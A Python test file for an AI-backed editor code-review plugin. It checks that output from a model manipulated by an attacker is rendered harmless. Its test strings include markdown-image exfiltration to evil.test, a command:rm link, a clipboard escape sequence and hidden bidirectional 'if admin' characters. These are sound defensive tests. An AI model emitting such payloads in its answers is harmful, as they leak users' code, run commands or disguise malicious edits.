"""A model that obeys an attacker: what it says is shown inert and changes only what it may."""

import json
import os
import stat
from dataclasses import replace
from pathlib import Path

import pytest

from support.answers import edit, finding, fix, improvement, review
from support.editor import editor
from support.fake_anthropic import FakeAnthropic, text

CODE = "def f():\n    ‸return 1\n"
TITLE = "Consult backend-developer: review f"
SPY = "![x](https://evil.test/?q=code) <img src=https://evil.test> [go](command:rm) $(warning)"


async def test_what_a_hover_shows_has_no_image_no_html_and_no_link(fake: FakeAnthropic) -> None:
    fake.queue(review(finding(2, "    return 1", f"Title {SPY}", why=SPY, trade_offs=SPY)))
    async with editor(fake=fake) as ed:
        await ed.open(CODE)
        await ed.choose(TITLE)
        await ed.diagnostics()
        hover = await ed.hover()
    assert hover is not None
    for forbidden in ("![", "<img", "](command:", "](https:"):
        assert forbidden not in hover.replace("\\<", "")


async def test_a_diagnostic_is_plain_bounded_and_carries_no_code(fake: FakeAnthropic) -> None:
    shout = "\x1b]52;c;ZXZpbA==\x07" + "A" * 9_000
    fake.queue(review(finding(2, "    return 1", "Off", why=shout)))
    async with editor("vscode", fake=fake) as ed:
        await ed.open(CODE)
        await ed.choose(TITLE)
        [shown] = await ed.diagnostics()
    assert len(shown["message"]) <= 2_000
    assert not any(ord(c) < 32 and c != "\n" for c in shown["message"])
    assert set(shown["data"]) == {"finding", "category"}
    assert "codeDescription" not in shown


async def test_an_answer_of_which_nothing_can_be_placed_is_not_called_fine(
    fake: FakeAnthropic,
) -> None:
    fake.queue(review(finding(2, "not there", "Off")))
    async with editor(fake=fake) as ed:
        await ed.open(CODE)
        await ed.choose(TITLE)
        await ed.progress_ended()
        assert "“Off” quotes a line that is not in the text" in await ed.message()
        assert not [m for m in ed.client.unread() if m.get("method") == "window/showMessage"]


async def test_a_message_has_no_link_to_click_on(fake: FakeAnthropic) -> None:
    fake.queue(review(finding(9, "not there", "Please [restart](command:rm)")))
    async with editor(fake=fake) as ed:
        await ed.open(CODE)
        await ed.choose(TITLE)
        said = await ed.message()
    assert "[restart]" in said
    assert "](" not in said


async def test_the_name_that_an_endpoint_gives_its_model_is_shown_inert(
    fake: FakeAnthropic,
) -> None:
    reply = text("It returns one.")
    named = tuple(
        part.replace(b'"claude-sonnet-5-5"', b'"![x](//e.test)"') for part in reply.chunks
    )
    fake.queue(replace(reply, chunks=named))
    async with editor(fake=fake) as ed:
        await ed.open(CODE)
        await ed.choose("Consult backend-developer: explain f")
        await ed.progress_ended()
        hover = await ed.hover()
    assert hover is not None
    assert "e.test" in hover
    assert "![" not in hover


@pytest.mark.slow
async def test_five_hundred_findings_do_not_flood(fake: FakeAnthropic) -> None:
    lines = [f"x{n} = {n}" for n in range(500)]
    found = [finding(n + 1, line, f"Finding {n}") for n, line in enumerate(lines)]
    fake.queue(review(*found, piece=4_000))
    async with editor(fake=fake) as ed:
        await ed.open("‸" + "\n".join(lines) + "\n")
        await ed.choose("Consult backend-developer: review file")
        assert len(await ed.reviewed()) == 50
        told = await ed.message()
        assert "300 findings more than are taken of one answer." in told
        assert "50 of 200 findings are shown, the worst first;" in told
        assert not [m for m in ed.client.unread() if m.get("method") == "window/showMessage"]


async def test_hidden_characters_are_never_inserted(fake: FakeAnthropic) -> None:
    trojan = edit(2, "    return 1", "    return 1  # \u202e } \u2066 if admin \u2069")
    fake.queue(improvement(trojan))
    async with editor(fake=fake) as ed:
        await ed.open(CODE)
        await ed.improve("f")
        assert "Nothing was changed" in await ed.message()
        assert ed.edits_received == []


@pytest.mark.parametrize(
    "answer",
    [
        "I would rather not.",
        '{"findings": 3}',
        json.dumps({"summary": "", "findings": [{"rule": 1}]}),
        "[" * 5_000,
    ],
)
async def test_an_answer_of_the_wrong_shape_is_one_message_and_no_finding(
    fake: FakeAnthropic, answer: str
) -> None:
    fake.queue(text(answer))
    async with editor(fake=fake) as ed:
        await ed.open(CODE)
        await ed.choose(TITLE)
        assert await ed.message()
        assert [a["title"] for a in await ed.menu() if a["kind"] == "quickfix"] == []


async def test_an_explanation_is_written_where_only_the_user_can_read_it(
    fake: FakeAnthropic, tmp_path: Path
) -> None:
    fake.queue(text("It returns one."))
    async with editor("neovim", fake=fake, environ={"TMPDIR": str(tmp_path)}) as ed:
        ed.attaches = True
        await ed.open(CODE)
        await ed.choose("Consult backend-developer: explain f")
        await ed.progress_ended()
        assert "It returns one.\n" in await ed.page()
        [folder] = tmp_path.iterdir()
        [page] = folder.iterdir()
        if os.name == "posix":
            assert stat.S_IMODE(folder.stat().st_mode) == 0o700
            assert stat.S_IMODE(page.stat().st_mode) == 0o600
    assert list(tmp_path.iterdir()) == [], "it goes when the session does"


async def test_neither_key_nor_code_reaches_the_log(fake: FakeAnthropic) -> None:
    fake.queue(review(finding(2, "    canary_code = 1", fixes=[fix("No")])), text("no json"))
    async with editor(fake=fake) as ed:
        await ed.open("def f():\n    ‸canary_code = 1\n")
        await ed.choose(TITLE)
        await ed.diagnostics()
        await ed.choose(TITLE)
        await ed.message()
        log = ed.client.stderr
    assert fake.key not in log
    assert "canary_code" not in log
